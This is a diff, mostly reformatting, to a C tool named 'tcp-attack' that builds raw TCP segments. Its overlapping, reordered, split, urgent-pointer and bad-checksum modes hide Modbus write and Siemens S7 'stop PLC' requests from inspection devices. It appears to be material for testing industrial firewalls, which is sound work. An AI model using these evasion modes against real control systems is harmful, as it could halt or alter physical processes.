@@ -127,7 +127,7 @@ static uint16_t fold(uint32_t s)
 
 static void sleep_ms(int ms)
 {
-	struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L };
+	struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
 
 	nanosleep(&ts, NULL);
 }
@@ -202,9 +202,8 @@ static int segment(uint32_t seq, unsigned int flags, const uint8_t *data,
 static int data(uint32_t rel, const uint8_t *d, size_t len,
 		const struct opts *o)
 {
-	int rc = segment(iss + 1 + rel, F_ACK | F_PSH | (o && o->urp ? F_URG :
-								     0),
-			 d, len, o);
+	int rc = segment(iss + 1 + rel,
+			 F_ACK | F_PSH | (o && o->urp ? F_URG : 0), d, len, o);
 
 	sleep_ms(gap_ms);
 	return rc;
@@ -218,7 +217,7 @@ static int await_synack(void)
 
 	clock_gettime(CLOCK_MONOTONIC, &t0);
 	for (;;) {
-		struct pollfd p = { .fd = sock, .events = POLLIN };
+		struct pollfd p = {.fd = sock, .events = POLLIN};
 		const uint8_t *ip, *tcp;
 		ssize_t n;
 		size_t iplen;
@@ -300,26 +299,23 @@ static uint32_t last_ack(void)
 }
 
 /* The requests of each protocol (see the comment at the top). */
-static const uint8_t mb_read[] = { 0x00, 0x01, 0x00, 0x00, 0x00, 0x06,
-				   0x01, 0x03, 0x00, 0x00, 0x00, 0x01 };
-static const uint8_t mb_write[] = { 0x00, 0x02, 0x00, 0x00, 0x00, 0x06,
-				    0x01, 0x06, 0x00, 0x01, 0x00, 0x2a };
+static const uint8_t mb_read[] = {0x00, 0x01, 0x00, 0x00, 0x00, 0x06,
+				  0x01, 0x03, 0x00, 0x00, 0x00, 0x01};
+static const uint8_t mb_write[] = {0x00, 0x02, 0x00, 0x00, 0x00, 0x06,
+				   0x01, 0x06, 0x00, 0x01, 0x00, 0x2a};
 /* With the urgent byte 0x07 at offset 5: FC 1 (read coils) of unit 6. */
-static const uint8_t mb_urg[] = { 0x00, 0x02, 0x00, 0x00, 0x00, 0x07, 0x06,
-				  0x01, 0x06, 0x00, 0x01, 0x00, 0x2a };
+static const uint8_t mb_urg[] = {0x00, 0x02, 0x00, 0x00, 0x00, 0x07, 0x06,
+				 0x01, 0x06, 0x00, 0x01, 0x00, 0x2a};
 #define MB_URG_BYTE 5
 
 static const uint8_t s7_read[] = {
 	0x03, 0x00, 0x00, 0x1f, 0x02, 0xf0, 0x80, 0x32, 0x01, 0x00, 0x00,
 	0x00, 0x01, 0x00, 0x0e, 0x00, 0x00, 0x04, 0x01, 0x12, 0x0a, 0x10,
-	0x02, 0x00, 0x01, 0x00, 0x01, 0x84, 0x00, 0x00, 0x00
-};
+	0x02, 0x00, 0x01, 0x00, 0x01, 0x84, 0x00, 0x00, 0x00};
 static const uint8_t s7_stop[] = {
-	0x03, 0x00, 0x00, 0x21, 0x02, 0xf0, 0x80, 0x32, 0x01, 0x00,
-	0x00, 0x00, 0x02, 0x00, 0x10, 0x00, 0x00, 0x29, 0x00, 0x00,
-	0x00, 0x00, 0x00, 0x09, 'P',  '_',  'P',  'R',  'O',  'G',
-	'R',  'A',  'M'
-};
+	0x03, 0x00, 0x00, 0x21, 0x02, 0xf0, 0x80, 0x32, 0x01, 0x00, 0x00,
+	0x00, 0x02, 0x00, 0x10, 0x00, 0x00, 0x29, 0x00, 0x00, 0x00, 0x00,
+	0x00, 0x09, 'P',  '_',	'P',  'R',  'O',  'G',	'R',  'A',  'M'};
 /*
  * With the urgent byte 0x04 at offset 17 (the job function): a read
  * variable job; without it the stop job, one byte short of its TPKT.
@@ -327,8 +323,7 @@ static const uint8_t s7_stop[] = {
 static const uint8_t s7_urg[] = {
 	0x03, 0x00, 0x00, 0x22, 0x02, 0xf0, 0x80, 0x32, 0x01, 0x00, 0x00, 0x00,
 	0x02, 0x00, 0x10, 0x00, 0x00, 0x04, 0x29, 0x00, 0x00, 0x00, 0x00, 0x00,
-	0x09, 'P',  '_',  'P',  'R',  'O',  'G',  'R',  'A',  'M'
-};
+	0x09, 'P',  '_',  'P',	'R',  'O',  'G',  'R',	'A',  'M'};
 #define S7_URG_BYTE 17
 
 struct proto {
@@ -338,12 +333,26 @@ struct proto {
 };
 
 static const struct proto modbus = {
-	mb_read, mb_write, mb_urg, sizeof(mb_read), sizeof(mb_write),
-	sizeof(mb_urg), 8, 7, MB_URG_BYTE
+	.r = mb_read,
+	.rlen = sizeof(mb_read),
+	.h = mb_write,
+	.hlen = sizeof(mb_write),
+	.u = mb_urg,
+	.ulen = sizeof(mb_urg),
+	.k = 8,
+	.fnoff = 7,
+	.urg_byte = MB_URG_BYTE,
 };
 static const struct proto s7 = {
-	s7_read, s7_stop, s7_urg, sizeof(s7_read), sizeof(s7_stop),
-	sizeof(s7_urg), 18, 17, S7_URG_BYTE
+	.r = s7_read,
+	.rlen = sizeof(s7_read),
+	.h = s7_stop,
+	.hlen = sizeof(s7_stop),
+	.u = s7_urg,
+	.ulen = sizeof(s7_urg),
+	.k = 18,
+	.fnoff = 17,
+	.urg_byte = S7_URG_BYTE,
 };
 
 /* D(k)+H into out: k bytes opening one allowed request that covers H. */
@@ -373,37 +382,41 @@ static size_t disguise(const struct proto *p, size_t k, uint8_t *out)
 	return n;
 }
 
+/*
+ * The segments of a mode, in the order they go out (one statement each:
+ * the order in which the operands of | are evaluated is unspecified).
+ */
 static int run_mode(const char *mode, const struct proto *p)
 {
 	uint8_t d[512];
 	size_t la = p->rlen, k = p->k, n, i;
 	int rc = 0;
 
-	if (!strcmp(mode, "plain"))
-		return data(0, p->r, la, NULL);
-	if (!strcmp(mode, "hidden"))
-		return data(0, p->r, la, NULL) |
-		       data(la, p->h, p->hlen, NULL);
-	if (!strcmp(mode, "overlap-fwd")) {
+	if (!strcmp(mode, "plain")) {
+		rc |= data(0, p->r, la, NULL);
+	} else if (!strcmp(mode, "hidden")) {
+		rc |= data(0, p->r, la, NULL);
+		rc |= data(la, p->h, p->hlen, NULL);
+	} else if (!strcmp(mode, "overlap-fwd")) {
 		n = disguise(p, k, d);
-		return data(0, p->r, la, NULL) | data(la - k, d, n, NULL);
-	}
-	if (!strcmp(mode, "overlap-bwd")) {
+		rc |= data(0, p->r, la, NULL);
+		rc |= data(la - k, d, n, NULL);
+	} else if (!strcmp(mode, "overlap-bwd")) {
 		n = disguise(p, k, d);
-		return data(la - k, d, n, NULL) | data(0, p->r, la, NULL);
-	}
-	if (!strcmp(mode, "rewrite-retx")) {
+		rc |= data(la - k, d, n, NULL);
+		rc |= data(0, p->r, la, NULL);
+	} else if (!strcmp(mode, "rewrite-retx")) {
 		n = disguise(p, la, d);
-		return data(0, p->r, la, NULL) | data(0, d, n, NULL);
-	}
-	if (!strcmp(mode, "reorder")) {
+		rc |= data(0, p->r, la, NULL);
+		rc |= data(0, d, n, NULL);
+	} else if (!strcmp(mode, "reorder")) {
 		n = disguise(p, k, d);
-		return data(2 * la - k, d, n, NULL) |
-		       data(la, p->r, la, NULL) | data(0, p->r, la, NULL);
-	}
-	if (!strcmp(mode, "ttl1") || !strcmp(mode, "badsum") ||
-	    !strcmp(mode, "oow")) {
-		struct opts o = { 0 };
+		rc |= data(2 * la - k, d, n, NULL);
+		rc |= data(la, p->r, la, NULL);
+		rc |= data(0, p->r, la, NULL);
+	} else if (!strcmp(mode, "ttl1") || !strcmp(mode, "badsum") ||
+		   !strcmp(mode, "oow")) {
+		struct opts o = {0};
 		uint32_t at = la;
 
 		if (!strcmp(mode, "ttl1"))
@@ -413,39 +426,39 @@ static int run_mode(const char *mode, const struct proto *p)
 		else
 			at += 1u << 20;
 		n = disguise(p, k, d);
-		return data(0, p->r, la, NULL) | data(at, p->r, la, &o) |
-		       data(la, p->h, p->hlen, NULL) |
-		       data(la - k, d, n, NULL);
-	}
-	if (!strcmp(mode, "one-byte")) {
-		rc = data(0, p->r, la, NULL);
+		rc |= data(0, p->r, la, NULL);
+		rc |= data(at, p->r, la, &o);
+		rc |= data(la, p->h, p->hlen, NULL);
+		rc |= data(la - k, d, n, NULL);
+	} else if (!strcmp(mode, "one-byte")) {
+		rc |= data(0, p->r, la, NULL);
 		for (i = 0; i < p->hlen; i++)
 			rc |= data(la + i, p->h + i, 1, NULL);
-		return rc;
-	}
-	if (!strcmp(mode, "split"))
-		return data(0, p->r, la, NULL) |
-		       data(la, p->h, p->fnoff, NULL) |
-		       data(la + p->fnoff, p->h + p->fnoff,
-			    p->hlen - p->fnoff, NULL);
-	if (!strcmp(mode, "urg")) {
-		struct opts o = { .urp = p->urg_byte + 1 };
+	} else if (!strcmp(mode, "split")) {
+		rc |= data(0, p->r, la, NULL);
+		rc |= data(la, p->h, p->fnoff, NULL);
+		rc |= data(la + p->fnoff, p->h + p->fnoff, p->hlen - p->fnoff,
+			   NULL);
+	} else if (!strcmp(mode, "urg")) {
+		struct opts o = {.urp = p->urg_byte + 1};
 
-		rc = data(0, p->r, la, NULL) | data(la, p->u, p->ulen, &o);
+		rc |= data(0, p->r, la, NULL);
+		rc |= data(la, p->u, p->ulen, &o);
 		if (p == &s7)
 			rc |= data(la + p->ulen, p->r, la, NULL);
-		return rc;
+	} else {
+		fprintf(stderr, "tcp-attack: unknown mode %s\n", mode);
+		return 2;
 	}
-	fprintf(stderr, "tcp-attack: unknown mode %s\n", mode);
-	return 2;
+	return rc ? 1 : 0;
 }
 
 static int parse_mac(const char *s, uint8_t *m)
 {
 	return sscanf(s, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &m[0], &m[1], &m[2],
-		      &m[3], &m[4], &m[5]) == 6 ?
-		       0 :
-		       -1;
+		      &m[3], &m[4], &m[5]) == 6
+		       ? 0
+		       : -1;
 }
 
 static void usage(FILE *f)
@@ -463,8 +476,8 @@ int main(int argc, char **argv)
 {
 	const char *iface = NULL, *src = NULL, *dst = NULL, *mode = NULL;
 	const struct proto *p = NULL;
-	struct sockaddr_ll ll = { .sll_family = AF_PACKET };
-	struct ifreq ifr = { 0 };
+	struct sockaddr_ll ll = {.sll_family = AF_PACKET};
+	struct ifreq ifr = {0};
 	bool have_dmac = false;
 	uint32_t end;
 	int i, rc;
